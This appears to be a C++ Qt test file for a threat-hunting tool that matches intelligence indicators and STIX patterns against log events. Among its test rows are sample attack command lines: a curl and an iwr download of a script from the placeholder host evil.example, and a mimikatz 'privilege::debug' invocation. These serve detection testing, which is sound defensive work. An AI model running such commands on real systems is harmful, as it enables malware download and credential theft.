// SPDX-License-Identifier: GPL-3.0-or-later
// Which values in events an indicator finds, and what a hunt swears to.
#include "hunt_case.h"

#include <jupiter/intel/import.h>
#include <jupiter/intel/indicator_rule.h>
#include <jupiter/intel/intel_store.h>
#include <jupiter/intel/watch.h>

using namespace jupiter;
using intel::Kind;

class HuntTest final : public HuntCase {
    Q_OBJECT

    /// A segment of which one column is damaged.
    class DamagedSegment final : public store::Segment {
    public:
        DamagedSegment(store::SegmentPtr whole, std::string field) : m_whole(std::move(whole)), m_field(std::move(field)) {}
        std::uint32_t rows() const override { return m_whole->rows(); }
        std::span<const std::string> fields() const override { return m_whole->fields(); }
        Result<columnar::ColumnPtr> column(std::string_view field) const override
        {
            if (field == m_field)
                return Error{ErrorCode::Corrupt, "stored data does not match its checksum"};
            return m_whole->column(field);
        }
        std::int64_t number() const override { return m_whole->number(); }
        TimeRange times() const override { return m_whole->times(); }
        std::uint64_t storedBytes() const override { return m_whole->storedBytes(); }
        bool mayHoldInteger(std::string_view, std::int64_t, std::int64_t) const override { return true; }
        bool mayHoldText(std::string_view, std::string_view) const override { return true; }
        bool mayContain(std::string_view, std::string_view) const override { return true; }

    private:
        store::SegmentPtr m_whole;
        std::string m_field;
    };

private Q_SLOTS:
    void aHitNeverNamesAnotherEventWhenIdsAreDamaged()
    {
        const auto store = events({{{"source.ip", "10.0.0.9"}}, {{"source.ip", "10.0.0.5"}}});
        const intel::HuntList list = listOf({{Kind::Ipv4, "10.0.0.5"}});
        for (const char *field : {"event.sequence", "jupiter.source", "log.file.path", "winlog.computer_name", ""}) {
            store::Snapshot snapshot = *store->snapshot();
            snapshot.segments[0] = std::make_shared<DamagedSegment>(snapshot.segments[0], field);
            SimpleJob job;
            const intel::HuntResult result = intel::hunt(snapshot, list, {{}, 1}, job);
            QCOMPARE(result.hits.size(), std::size_t(1));
            QCOMPARE(result.hits[0].count, std::uint64_t(1));
            QCOMPARE(result.receipt.partial, *field != 0);
            for (const intel::HuntEvent &event : result.hits[0].events)
                QCOMPARE(event.id, std::string("aaaaaaaaaaaaaaaa:1"));
            const bool hasIds = field != std::string_view("event.sequence") && field != std::string_view("jupiter.source");
            QCOMPARE(result.hits[0].events.size(), std::size_t(hasIds));
        }
    }
    void anIndicatorIsFoundInWhateverWayTheEventHasIt_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("there");
        QTest::addColumn<bool>("found");
        const auto row = [](const char *kind, const char *value, const char *field, const char *there, bool found) {
            QTest::newRow(qPrintable(QString("%1 %2 in %3 %4").arg(kind, value, field, there))) << kind << value << field << there << found;
        };
        row("ipv4-addr", "10.0.0.5", "destination.ip", "10.0.0.5", true);
        row("ipv4-addr", "10.0.0.5", "destination.ip", "10.0.0.50", false);
        row("ipv4-addr", "10.0.0.5", "destination.ip", "::ffff:10.0.0.5", true);
        row("ipv4-addr", "10.0.0.0/24", "source.ip", "10.0.0.77", true);
        row("ipv4-addr", "10.0.0.0/24", "source.ip", "10.0.1.77", false);
        row("ipv4-addr", "10.0.0.5", "process.command_line", "ping 10.0.0.5 -n 3", true);
        row("ipv4-addr", "10.0.0.5", "process.command_line", "connect=10.0.0.5:443;", true);
        row("ipv4-addr", "10.0.0.5", "process.command_line", "1.10.0.0.5", false);
        row("ipv4-addr", "10.0.0.5", "url.full", "http://10.0.0.5/x", true);
        row("ipv4-addr", "10.0.0.5", "some.odd.dst_ip", "10.0.0.5", true);
        row("ipv6-addr", "2001:db8::1", "source.ip", "2001:DB8:0:0:0:0:0:1", true);
        row("ipv6-addr", "2001:db8::/32", "source.ip", "2001:db8:1::9", true);
        row("domain-name", "evil.example", "dns.question.name", "a.b.EVIL.example", true);
        row("domain-name", "evil.example", "dns.question.name", "notevil.example", false);
        row("domain-name", "evil.example", "url.full", "https://user@www.evil.example:8443/p?q", true);
        row("domain-name", "evil.example", "process.command_line", "curl -o x hxxp evil.example/x.ps1", true);
        row("domain-name", "evil.example", "message", "resolved evil.example.", true);
        row("url", "http://evil.example/a", "url.full", "HTTP://EVIL.example:80/a", true);
        row("url", "http://evil.example/a", "url.full", "http://evil.example/b", false);
        row("url", "http://evil.example", "url.full", "http://evil.example/", true);
        row("url", "http://evil.example/a?b=c", "process.command_line", "iwr 'http://evil.example/a?b=c' -o x", true);
        row("email-addr", "m@evil.example", "email.from.address", "M@Evil.example", true);
        row("email-addr", "m@evil.example", "message", "mail from <m@evil.example>", true);
        row("file:md5", "d41d8cd98f00b204e9800998ecf8427e", "file.hash.md5", "D41D8CD98F00B204E9800998ECF8427E", true);
        row("file:md5", "d41d8cd98f00b204e9800998ecf8427e", "winlog.event_data.Hashes", "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E", true);
        row("file:md5", "d41d8cd98f00b204e9800998ecf8427e", "winlog.event_data.Hashes", "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709; MD5=D41D8CD98F00B204E9800998ECF8427E", true);
        row("email-addr", "mallory[z`{@x.example", "email.from.address", "MALLORY[Z`{@X.example", true);
        row("file:imphash", "d41d8cd98f00b204e9800998ecf8427e", "winlog.event_data.Hashes", "MD5=D41D8CD98F00B204E9800998ECF8427E", false);
        row("file:imphash", "d41d8cd98f00b204e9800998ecf8427e", "winlog.event_data.Hashes", "MD5=0,IMPHASH=D41D8CD98F00B204E9800998ECF8427E", true);
        row("file:name", "mimikatz.exe", "process.executable", "C:\\Temp\\Mimikatz.EXE", true);
        row("file:name", "mimikatz.exe", "process.executable", "C:\\Temp\\notmimikatz.exe", false);
        row("file:name", "mimikatz.exe", "process.command_line", "\"C:\\x\\mimikatz.exe\" privilege::debug", true);
        row("file:path", "C:\\Temp\\x.exe", "file.path", "c:\\temp\\X.exe", true);
        row("file:path", "C:\\Temp\\x.exe", "file.path", "c:\\other\\temp\\x.exe", false);
        row("file:path", "%APPDATA%\\Evil\\x.exe", "file.path", "C:\\Users\\m\\AppData\\Roaming\\Evil\\x.exe", true);
        row("file:path", "/tmp/.x/y", "process.executable", "/tmp/.x/y", true);
        row("windows-registry-key", "HKLM\\Software\\Evil", "registry.path", "HKEY_LOCAL_MACHINE\\SOFTWARE\\Evil\\Value", true);
        row("windows-registry-key", "HKCU\\Software\\Evil", "registry.path", "HKU\\S-1-5-21-1-2-3-500\\Software\\Evil", true);
        row("windows-registry-key", "HKLM\\Software\\Evil", "registry.path", "HKLM\\Software\\EvilToo", false);
        row("mutex", "Global\\Evil", "winlog.event_data.MutexName", "Global\\Evil", true);
        row("user-agent", "Evil/1.0", "user_agent.original", "Evil/1.0", true);
        row("ja3", "d41d8cd98f00b204e9800998ecf8427e", "tls.client.ja3", "d41d8cd98f00b204e9800998ecf8427e", true);
        row("ja3", "d41d8cd98f00b204e9800998ecf8427e", "file.hash.md5", "d41d8cd98f00b204e9800998ecf8427e", false);
        row("vulnerability", "CVE-2017-0144", "message", "exploits cve-2017-0144 here", true);
    }
    void anIndicatorIsFoundInWhateverWayTheEventHasIt()
    {
        QFETCH(QString, kind);
        QFETCH(QString, value);
        QFETCH(QString, field);
        QFETCH(QString, there);
        QFETCH(bool, found);
        const QByteArray fieldName = field.toUtf8(), content = there.toUtf8();
        const auto store = events({{{"message", "nothing here"}}, {{fieldName.constData(), content.constData()}}});
        const auto list = listOf({{*intel::kindFromName(kind.toStdString()), value.toStdString()}, {Kind::Domain, "other.example"}});
        const intel::HuntResult result = huntFor(*store, list);
        QCOMPARE(result.hits.empty(), !found);
        QCOMPARE(result.receipt.hit, found ? 1u : 0u);
        QCOMPARE(result.receipt.events, 2u);
        if (found) {
            QCOMPARE(result.hits.front().count, 1u);
            QCOMPARE(result.hits.front().events.front().id, std::string(16, 'a') + ":1");
        }
    }

    void aHitIsNamedByTheFieldThatPeopleKnow()
    {
        const auto store = events({{{"winlog.channel", "Microsoft-Windows-Sysmon/Operational"}, {"event.code", "3"}, {"winlog.event_data.DestinationIp", "10.0.0.5"}},
                                   {{"winlog.channel", "Microsoft-Windows-Sysmon/Operational"}, {"event.code", "3"}, {"winlog.event_data.SourceIp", "10.0.0.5"}}});
        const intel::HuntResult result = huntFor(*store, listOf({{Kind::Ipv4, "10.0.0.5"}}));
        QCOMPARE(result.hits.size(), 2u);
        QCOMPARE(result.hits[0].field, std::string("destination.ip"));
        QCOMPARE(result.hits[1].field, std::string("source.ip"));
        QCOMPARE(result.receipt.hit, 1u); // one indicator, two fields
    }

    void onlyTheTimeAskedForIsSearched()
    {
        const auto store = events({{{"source.ip", "10.0.0.5"}}, {{"source.ip", "10.0.0.5"}}, {{"source.ip", "10.0.0.5"}}});
        const std::int64_t begin = 1'700'000'000'000'000'000, second = 1'000'000'000;
        const auto list = listOf({{Kind::Ipv4, "10.0.0.5"}});
        const intel::HuntResult result = huntFor(*store, list, {{begin + second}, {begin + 2 * second}});
        QCOMPARE(result.receipt.events, 1u);
        QCOMPARE(result.hits.front().count, 1u);
        const intel::HuntReceipt later = huntFor(*store, list, {{begin + 10 * second}, {begin + 20 * second}}).receipt;
        QCOMPARE(later.events, 0u);
        QCOMPARE(later.notCovered.size(), std::size_t(1));
        QVERIFY2(later.notCovered.front().what.starts_with("3 events before "), later.notCovered.front().what.c_str());
    }

    void theReceiptSaysWhatWasNotLookedAt()
    {
        const auto store = events({{{"source.ip", "10.0.0.1"}, {"odd.field", "x"}}});
        const intel::HuntResult result = huntFor(*store, listOf({{Kind::Ipv4, "10.0.0.5"}, {Kind::Ja3, std::string(32, 'a')}, {Kind::Text, "x"}, {Kind::Yara, "rule"}}));
        QCOMPARE(result.receipt.lookedFor, 2u);
        QCOMPARE(result.receipt.notMatchable, 2u);
        QCOMPARE(result.receipt.fields, std::vector<std::string>{"source.ip"});
        QStringList what;
        for (const intel::NotCovered &one : result.receipt.notCovered)
            what << QString::fromStdString(one.what);
        QVERIFY(what.contains("ja3"));
        QVERIFY(what.join(' ').contains("odd.field"));
        QVERIFY(what.join(' ').contains("2 indicators of kinds"));
    }

    void aPatternIsAskedOfEveryEvent_data()
    {
        QTest::addColumn<QString>("pattern");
        QTest::addColumn<int>("count"); // events of the hit; -1: not asked
        const auto row = [](const char *pattern, int count) { QTest::newRow(pattern) << pattern << count; };
        row("[ipv4-addr:value = '10.0.0.5' OR domain-name:value = 'evil.example']", 3);
        row("[ipv4-addr:value = '10.0.0.0/24']", 3);
        row("[ipv4-addr:value ISSUBSET '10.0.0.4/30']", 2);
        row("[domain-name:value = 'EVIL.example']", 1);
        row("[domain-name:value LIKE 'e%.example']", 1);
        row("[domain-name:value MATCHES '^e.*le$']", 1);
        row("[network-traffic:dst_ref.value = '10.0.0.5' AND network-traffic:dst_port = 443]", 1);
        row("[network-traffic:dst_ref.value = '10.0.0.5' AND network-traffic:dst_port > 443]", 0);
        row("[network-traffic:dst_port IN (80, 443)]", 2);
        row("[file:name = 'a.exe' AND file:hashes.MD5 = 'D41D8CD98F00B204E9800998ECF8427E']", 1);
        row("[file:name = 'b.dll' AND file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']", 0); // the hash of another file of the event
        row("[file:name EXISTS]", -1); // a STIX parser takes EXISTS before the path
        row("[EXISTS file:name]", 1);
        row("[NOT EXISTS file:name]", -1);
        row("[network-traffic:dst_ref.value = '10.0.0.5' AND NOT EXISTS network-traffic:src_ref.value]", 2);
        row("[ipv4-addr:value = '10.0.0.99' AND NOT EXISTS network-traffic:dst_port]", 0); // a condition of two types holds for no object
        row("[file:name = 'a.exe' AND NOT EXISTS file:hashes.MD5]", 0);
        row("[file:name = 'a.exe' AND NOT EXISTS file:hashes.'SHA-256']", 1);
        row("[file:name = 'a.exe' OR NOT EXISTS file:hashes.MD5]", -1); // every event lacks something
        row("[domain-name:value = 'evil.example'] FOLLOWEDBY [ipv4-addr:value = '10.0.0.5']", 2);
        row("[ipv4-addr:value = '10.0.0.5'] FOLLOWEDBY [domain-name:value = 'absent.example']", 0);
        row("[file:name = 'a.exe'] FOLLOWEDBY [domain-name:value = 'evil.example']", 0);
        row("([domain-name:value = 'evil.example'] AND [file:name = 'a.exe']) WITHIN 3 SECONDS", 2);
        row("([domain-name:value = 'evil.example'] AND [file:name = 'a.exe']) WITHIN 1 SECONDS", 0);
        row("[ipv4-addr:value = '10.0.0.5'] REPEATS 2 TIMES", 2);
        row("[ipv4-addr:value = '10.0.0.5'] REPEATS 3 TIMES", 0);
        row("[ipv4-addr:value = '10.0.0.5'] START t'2023-11-14T22:13:22Z' STOP t'2023-11-14T22:13:23Z'", 1);
        row("[mutex:name = 'x']", -1);
        row("[email-message:subject = 'x']", -1); // no event has a subject
        row("[ipv4-addr:value = '10.0.0.5' AND", -1);
    }
    void aPatternIsAskedOfEveryEvent()
    {
        QFETCH(QString, pattern);
        QFETCH(int, count);
        const auto store = events({{{"destination.domain", "evil.example"}},
                                   {{"destination.ip", "10.0.0.5"}, {"destination.port", "443"}},
                                   {{"destination.ip", "10.0.0.5"}, {"destination.port", "80"}},
                                   {{"source.ip", "10.0.0.99"}, {"process.name", "a.exe"}, {"process.hash.md5", "d41d8cd98f00b204e9800998ecf8427e"}, {"dll.name", "b.dll"}}});
        const intel::HuntResult result = huntFor(*store, listOf({{Kind::Pattern, pattern.toStdString()}}));
        QCOMPARE(result.receipt.lookedFor, count < 0 ? 0u : 1u);
        QCOMPARE(result.receipt.notMatchable, count < 0 ? 1u : 0u);
        QCOMPARE(result.hits.size(), count > 0 ? 1u : 0u);
        QCOMPARE(result.receipt.hit, count > 0 ? 1u : 0u);
        if (count > 0)
            QCOMPARE(result.hits[0].events.size(), std::size_t(count));
        const bool said = std::any_of(result.receipt.notCovered.begin(), result.receipt.notCovered.end(), [](const intel::NotCovered &one) { return one.what.starts_with("1 pattern"); });
        QCOMPARE(said, count < 0);
    }

    void aRuleThatSaysNothingOrNonsenseIsRefused_data()
    {
        QTest::addColumn<QByteArray>("yaml");
        QTest::addColumn<QString>("why");
        const auto row = [](const char *yaml, const char *why) { QTest::newRow(yaml) << QByteArray(yaml) << QString(why); };
        row("", "one YAML document");
        row("- a", "one YAML document");
        row("name: [", "line");
        row("name: a", "at least one of");
        row("kinds: [url]", "name is one line");
        row("name: \"a\\nb\"\nkinds: [url]", "name is one line");
        row("name: a\nkind: url", "'kind' is not known");
        row("name: a\nkinds: [pattern]", "no kind that events are searched for");
        row("name: a\nkinds: {url: 1}", "list of kinds");
        row("name: a\nmin-score: 101", "0 to 100");
        row("name: a\nmin-score: 5x", "0 to 100");
        row("name: a\nmin-score: 50\nlevel: worst", "level is");
        row("name: a\nwhere: 'source.ip:'", "where: ");
        row("name: a\nwhere: \"source.ip:10.0.0.1 | stats count()\"", "no commands");
        row("name: a\nwhere: [x]", "takes a text");
        row("name: a\nkinds: [url]\n---\nname: b\nkinds: [url]", "one YAML document");
    }
    void aRuleThatSaysNothingOrNonsenseIsRefused()
    {
        QFETCH(QByteArray, yaml);
        QFETCH(QString, why);
        const auto rule = intel::IndicatorRule::parse(yaml.toStdString());
        QVERIFY(!rule);
        QVERIFY2(rule.error().message.find(why.toStdString()) != std::string::npos, rule.error().message.c_str());
    }

    void fieldsThatTheProgramFillsAreNotCalledUncovered()
    {
        const auto store = events({{{"source.ip", "10.1.2.3"}, {"log.file.path", "a.log"}, {"jupiter.decoder", "x"}, {"my.odd.thing", "y"}}});
        const intel::HuntResult result = huntFor(*store, listOf({{Kind::Ipv4, "10.1.2.3"}}));
        std::string all;
        for (const intel::NotCovered &one : result.receipt.notCovered)
            all += one.what + '\n';
        QVERIFY2(all.find("my.odd.thing") != std::string::npos, all.c_str());
        for (const char *own : {"log.file.path", "event.sequence", "log.offset", "jupiter."})
            QVERIFY2(all.find(own) == std::string::npos, all.c_str());
    }

    void aHitIsNamedByTheFieldThatShowsIt()
    {
        // The same stored field under its ECS name, under another where a rule before it has a value, and under its own where a condition does not hold.
        const auto store = events({{{"winlog.event_data.IpAddress", "10.1.2.3"}},
                                   {{"winlog.event_data.IpAddress", "10.1.2.3"}, {"winlog.event_data.SourceIp", "10.9.9.9"}},
                                   {{"winlog.event_data.IpAddress", "10.1.2.3"}, {"winlog.event_data.SourceIp", "10.1.2.3"}},
                                   {{"winlog.event_data.SourceAddress", "10.1.2.3"}, {"winlog.channel", "Security"}},
                                   {{"winlog.event_data.SourceAddress", "10.1.2.3"}, {"winlog.channel", "Elsewhere"}}});
        const intel::HuntResult result = huntFor(*store, listOf({{Kind::Ipv4, "10.1.2.3"}}));
        QMap<QString, quint64> counts;
        for (const intel::HuntHit &hit : result.hits)
            counts[QString::fromStdString(hit.field)] = hit.count;
        QCOMPARE(counts, (QMap<QString, quint64>{{"source.ip", 3}, {"winlog.event_data.IPAddress", 1}, {"winlog.event_data.SourceAddress", 1}})); // the second as fields.yaml spells it
    }

    void overlappingNetworksAreAllFound()
    {
        const auto store = events({{{"source.ip", "10.1.2.3"}}});
        const auto list = listOf({{Kind::Ipv4, "10.0.0.0/8"}, {Kind::Ipv4, "10.1.0.0/16"}, {Kind::Ipv4, "10.1.2.3"}, {Kind::Ipv4, "10.1.3.0/24"}, {Kind::Ipv4, "0.0.0.0/0"}});
        QCOMPARE(huntFor(*store, list).receipt.hit, 4u);
    }

    // Live sources begin anew with other rules: what they matched with is moved.
    void aMatcherThatWasMovedStillFinds()
    {
        SimpleJob job;
        const std::filesystem::path folder = m_folder.filePath("moved.jupiter").toStdString();
        QVERIFY(intel::importBytes(**intel::IntelStore::open(folder, intel::IntelStore::Mode::Create), "a", "evil.com\n", "", job));
        intel::BatchMatcher first(*intel::IndicatorWatch::open(folder)), second(nullptr);
        intel::BatchMatcher moved(std::move(first));
        second = std::move(moved);
        columnar::BatchBuilder builder;
        builder.beginRow();
        builder.addText(builder.field("jupiter.source"), std::string(64, 'a'));
        builder.addInteger(builder.field("event.sequence"), 0);
        builder.addText(builder.field("dns.question.name"), "www.evil.com");
        builder.endRow();
        std::vector<store::StoredFinding> found;
        QVERIFY(second.match(builder.take(), found));
        QCOMPARE(found.size(), 1u);
        QVERIFY(found.front().title.ends_with("evil.com"));
    }

    void everyOneOfManyIsFoundAndNoOther()
    {
        std::vector<intel::Value> values;
        std::vector<std::string> texts;
        for (int i = 0; i < 20'000; ++i)
            values.push_back({Kind::Domain, "d" + std::to_string(i * 7919) + ".example"});
        std::vector<std::vector<Cell>> rows;
        for (int i = 0; i < 2000; ++i)
            texts.push_back("d" + std::to_string(i * 7919 + i % 2) + ".example"); // every other one is a stranger
        for (const std::string &text : texts)
            rows.push_back({{"dns.question.name", text.c_str()}});
        const auto store = events(rows);
        QCOMPARE(huntFor(*store, listOf(values)).receipt.hit, 1000u);
    }
};

QTEST_GUILESS_MAIN(HuntTest)
#include "hunt_test.moc"
